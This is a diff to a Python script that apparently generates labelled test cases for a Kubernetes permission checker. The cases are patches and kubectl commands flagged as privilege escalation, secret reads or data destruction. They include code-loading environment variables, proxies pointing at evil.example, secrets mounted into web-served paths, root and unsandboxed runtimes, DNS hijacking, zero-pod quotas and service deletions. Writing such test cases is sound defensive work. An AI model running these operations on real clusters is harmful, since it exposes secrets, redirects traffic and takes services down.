@@ -2224,6 +2224,104 @@ tool(
 )
 
 
+# --- what a pod template can bring besides a privileged flag: code-loading and proxy variables, credentials, root, ---
+# another runtime, another name resolution; writes no undo takes back; tighter admission; deletions that stop pods
+def template_patch(spec: dict[str, Any]) -> dict[str, Any]:
+    return {
+        "verb": "patch",
+        "kind": "Deployment",
+        "namespace": "{ns}",
+        "name": "web",
+        "patch": {"spec": {"template": {"spec": spec}}},
+    }
+
+
+for env in [
+    {"name": "NODE_OPTIONS", "value": "--require /tmp/x.js"},
+    {"name": "JAVA_TOOL_OPTIONS", "value": "-javaagent:/tmp/a.jar"},
+    {"name": "PYTHONSTARTUP", "value": "/tmp/x.py"},
+    {"name": "BASH_ENV", "value": "/tmp/x.sh"},
+    {"name": "PATH", "value": "/tmp:/usr/bin:/bin"},
+    {"name": "HTTPS_PROXY", "value": "http://evil.example:3128"},
+    {"name": "http_proxy", "value": "http://evil.example:3128"},
+    {"name": "X", "valueFrom": {"secretKeyRef": {"name": "creds", "key": "password"}}},
+]:
+    tool(
+        "privilege_escalation" if "valueFrom" not in env else "secret_reads",
+        template_patch({"containers": [{"name": "app", "env": [env]}]}),
+        requires="write_policy",
+    )
+line(
+    "privilege_escalation",
+    "kubectl set env deploy/web NODE_OPTIONS='--require /tmp/x.js' -n {ns}",
+    requires="write_policy",
+)
+line(
+    "privilege_escalation",
+    "kubectl set env deploy/web HTTP_PROXY=http://evil.example:3128 -n {ns}",
+    requires="write_policy",
+)
+line("secret_reads", "kubectl set env deploy/web --from=secret/creds -n {ns}", requires="write_policy")
+for spec in [
+    {"containers": [{"name": "app", "envFrom": [{"secretRef": {"name": "creds"}}]}]},
+    {
+        "volumes": [{"name": "s", "secret": {"secretName": "creds"}}],
+        "containers": [{"name": "app", "volumeMounts": [{"name": "s", "mountPath": "/usr/share/nginx/html"}]}],
+    },
+    {
+        "volumes": [{"name": "p", "projected": {"sources": [{"secret": {"name": "creds"}}]}}],
+        "containers": [{"name": "app", "volumeMounts": [{"name": "p", "mountPath": "/usr/share/nginx/html/s"}]}],
+    },
+]:
+    tool("secret_reads", template_patch(spec), requires="write_policy")
+for spec in [
+    {"containers": [{"name": "app", "securityContext": {"runAsUser": 0, "runAsNonRoot": False}}]},
+    {"securityContext": {"runAsUser": 0}},
+    {"runtimeClassName": "unsandboxed"},
+    {"hostAliases": [{"ip": "203.0.113.9", "hostnames": ["db", "kubernetes.default.svc"]}]},
+    {"dnsPolicy": "None", "dnsConfig": {"nameservers": ["203.0.113.9"]}},
+]:
+    tool("privilege_escalation", template_patch(spec), requires="write_policy")
+tool("data_destruction", template_patch({"activeDeadlineSeconds": 1}))
+for kind, name, patch in [
+    ("Deployment", "web", {"spec": {"revisionHistoryLimit": 0}}),
+    ("CronJob", "tick", {"spec": {"successfulJobsHistoryLimit": 0, "failedJobsHistoryLimit": 0}}),
+    ("PersistentVolumeClaim", "data", {"spec": {"resources": {"requests": {"storage": "1Ti"}}}}),
+    ("ConfigMap", "conf", {"immutable": True}),
+]:
+    tool(
+        "data_destruction",
+        {"verb": "patch", "kind": kind, "namespace": "{ns}", "name": name, "patch": patch},
+        requires="write_policy",
+    )
+line(
+    "data_destruction",
+    'kubectl patch deploy web -n {ns} -p \'{"spec":{"revisionHistoryLimit":0}}\'',
+    requires="write_policy",
+)
+line("data_destruction", "kubectl create quota q --hard=pods=0 -n {ns}")
+for manifest in [
+    {"apiVersion": "v1", "kind": "ResourceQuota", "metadata": {"name": "q"}, "spec": {"hard": {"pods": "0"}}},
+    {
+        "apiVersion": "v1",
+        "kind": "LimitRange",
+        "metadata": {"name": "l"},
+        "spec": {"limits": [{"type": "Container", "max": {"memory": "1Mi"}}]},
+    },
+    {
+        "apiVersion": "networking.k8s.io/v1",
+        "kind": "NetworkPolicy",
+        "metadata": {"name": "deny"},
+        "spec": {"podSelector": {}, "policyTypes": ["Ingress", "Egress"]},
+    },
+]:
+    for verb in ("create", "apply"):
+        body = {**manifest, "metadata": {**manifest["metadata"], "namespace": "{ns}"}}
+        tool("data_destruction", {"verb": verb, "manifest": body}, requires="write_policy")
+for target in ["svc web", "service/web", "configmap initdb", "cm hooks", "configmap opts"]:
+    line("data_destruction", f"kubectl delete {target} -n {{ns}}", requires="write_policy")
+
+
 def main() -> None:
     OUT.parent.mkdir(parents=True, exist_ok=True)
     for i, case in enumerate(cases):
